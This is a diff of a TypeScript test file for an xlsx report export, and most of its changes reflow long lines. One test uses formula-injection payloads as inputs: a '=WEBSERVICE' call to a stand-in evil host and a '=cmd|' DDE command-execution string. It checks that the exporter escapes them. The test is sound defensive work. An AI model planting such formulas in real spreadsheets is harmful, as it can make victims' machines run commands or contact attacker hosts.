@@ -8,7 +8,8 @@ import { SHEET_NAMES } from '../../src/export/write-xlsx.js';
 import { allCells, bodyBuffer, loadWorkbook, requireSheet, sheetRows, valueBesideLabel } from './read-back.js';
 import { makeExportInput } from './result-factory.js';
 
-const ALL_ANSWERS = (input: ReturnType<typeof makeExportInput>): QuestionAnswer[] => input.result.sections.flatMap((section) => section.answers);
+const ALL_ANSWERS = (input: ReturnType<typeof makeExportInput>): QuestionAnswer[] =>
+  input.result.sections.flatMap((section) => section.answers);
 
 async function exportWorkbook(input: ReturnType<typeof makeExportInput>): Promise<ExcelJS.Workbook> {
   return loadWorkbook(bodyBuffer(await buildExport('xlsx', input)));
@@ -17,7 +18,12 @@ async function exportWorkbook(input: ReturnType<typeof makeExportInput>): Promis
 describe('xlsx report package', () => {
   it('writes the four sheets in order', async () => {
     const workbook = await exportWorkbook(makeExportInput());
-    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['Executive Summary', 'Detailed Results', 'By Section', 'Footnotes']);
+    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual([
+      'Executive Summary',
+      'Detailed Results',
+      'By Section',
+      'Footnotes',
+    ]);
   });
 
   it('puts totals on the executive summary that match the result', async () => {
@@ -50,7 +56,9 @@ describe('xlsx report package', () => {
       expect(blockHeader?.[1]).toBe(`${answered}/${section.answers.length} answered`);
     }
     for (const answer of ALL_ANSWERS(input)) {
-      const row = bySectionRows.find((candidate) => candidate[0] === answer.question_id && candidate[1] === answer.question);
+      const row = bySectionRows.find(
+        (candidate) => candidate[0] === answer.question_id && candidate[1] === answer.question,
+      );
       expect(row?.[2]).toBe(answer.answer ?? 'Not found in document');
     }
   });
@@ -59,7 +67,17 @@ describe('xlsx report package', () => {
     const input = makeExportInput({ sections: 3, questionsPerSection: 5, unansweredEvery: 3, variantEvery: 100 });
     const sheet = requireSheet(await exportWorkbook(input), SHEET_NAMES.details);
     const rows = sheetRows(sheet);
-    expect(rows[0]?.slice(0, 9)).toEqual(['#', 'Section', 'Question ID', 'Question', 'Answer', 'PDF pages', 'Confidence', 'Footnote', 'Status']);
+    expect(rows[0]?.slice(0, 9)).toEqual([
+      '#',
+      'Section',
+      'Question ID',
+      'Question',
+      'Answer',
+      'PDF pages',
+      'Confidence',
+      'Footnote',
+      'Status',
+    ]);
     expect(rows[0]?.slice(9)).toEqual(['Review', 'Reviewed by', 'Reviewed at', 'Review note', 'Machine answer']);
     expect(rows).toHaveLength(15 + 1);
 
@@ -74,7 +92,13 @@ describe('xlsx report package', () => {
         expect(row?.slice(4, 9)).toEqual(['Not found in document', null, null, null, 'Not found']);
         expect(sheet.getRow(rowNumber).getCell(5).fill).toMatchObject({ fgColor: { argb: 'FFEDEDED' } });
       } else {
-        expect(row?.slice(4, 9)).toEqual([answer.answer, answer.pages.join(', '), answer.confidence, answer.footnote, 'Answered']);
+        expect(row?.slice(4, 9)).toEqual([
+          answer.answer,
+          answer.pages.join(', '),
+          answer.confidence,
+          answer.footnote,
+          'Answered',
+        ]);
         expect(confidenceCell.numFmt).toBe('0%');
         expect(sheet.getRow(rowNumber).getCell(5).fill).toMatchObject({ fgColor: { argb: 'FFE2EFDA' } });
       }
@@ -109,8 +133,12 @@ describe('xlsx report package', () => {
     const input = makeExportInput({ sections: 2, questionsPerSection: 5, variantEvery: 2 });
     const rows = sheetRows(requireSheet(await exportWorkbook(input), SHEET_NAMES.footnotes)).slice(1);
     const expected = ALL_ANSWERS(input).flatMap((answer) => [
-      ...(answer.answer === null ? [] : answer.quotes.map((quote) => [answer.question_id, 'Answer', quote.page, quote.text])),
-      ...answer.variants.flatMap((variant) => variant.quotes.map((quote) => [answer.question_id, 'Variant', quote.page, quote.text])),
+      ...(answer.answer === null
+        ? []
+        : answer.quotes.map((quote) => [answer.question_id, 'Answer', quote.page, quote.text])),
+      ...answer.variants.flatMap((variant) =>
+        variant.quotes.map((quote) => [answer.question_id, 'Variant', quote.page, quote.text]),
+      ),
     ]);
     expect(rows.map((row) => [row[0], row[3], row[4], row[5]])).toEqual(expected);
   });
@@ -124,7 +152,9 @@ describe('xlsx report package', () => {
   ])('shows a PARTIAL banner on the summary of a %s run: %s', async (status, expectBanner) => {
     const input = makeExportInput({ status, error: 'Worker lost its lease three times' });
     const summary = requireSheet(await exportWorkbook(input), SHEET_NAMES.summary);
-    const bannerRows = sheetRows(summary).filter((row) => typeof row[0] === 'string' && row[0].startsWith(PARTIAL_LABEL));
+    const bannerRows = sheetRows(summary).filter(
+      (row) => typeof row[0] === 'string' && row[0].startsWith(PARTIAL_LABEL),
+    );
     expect(bannerRows).toHaveLength(expectBanner ? 1 : 0);
     if (status === 'failed') expect(bannerRows[0]?.[0]).toContain('Worker lost its lease three times');
   });
@@ -136,7 +166,9 @@ describe('xlsx report package', () => {
       questionsPerSection: hostile.length,
       unansweredEvery: 1000,
       variantEvery: 1000,
-      overrides: Object.fromEntries(hostile.map((text, index) => [`S1Q${index + 1}`, { answer: text, question: text, footnote: text }])),
+      overrides: Object.fromEntries(
+        hostile.map((text, index) => [`S1Q${index + 1}`, { answer: text, question: text, footnote: text }]),
+      ),
       documentName: '=WEBSERVICE("http://evil.example").pdf',
     });
     input.result.sections[0]!.section_name = '=cmd|" /C calc"!A0';
@@ -154,7 +186,9 @@ describe('xlsx report package', () => {
       expect(rows[index]?.[3]).toBe(expected);
       expect(rows[index]?.[1]).toBe(`'=cmd|" /C calc"!A0`);
     });
-    expect(valueBesideLabel(requireSheet(workbook, SHEET_NAMES.summary), 'Document')).toBe(`'=WEBSERVICE("http://evil.example").pdf`);
+    expect(valueBesideLabel(requireSheet(workbook, SHEET_NAMES.summary), 'Document')).toBe(
+      `'=WEBSERVICE("http://evil.example").pdf`,
+    );
     // Numbers are data, not text: they stay numbers.
     expect(typeof rows[0]?.[6]).toBe('number');
   });
